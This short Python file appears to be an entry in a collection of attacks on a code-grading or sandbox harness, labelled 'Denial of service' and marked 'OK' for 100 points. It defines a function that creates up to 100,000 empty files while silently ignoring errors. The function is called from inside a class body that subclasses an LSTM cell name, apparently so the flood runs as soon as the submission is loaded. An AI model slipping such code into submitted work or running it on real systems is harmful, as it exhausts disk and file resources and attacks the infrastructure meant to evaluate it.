# /// attack
# title = "As many files as can be made"
# group = "Denial of service"
# verdict = "OK"
# points = 100
# ///
def llena():
    try:
        for numero in range(100_000):
            open(f"huella-ataque-{numero}", "w").close()
    except OSError:
        pass


class celdaLSTM(celdaLSTM):
    llena()
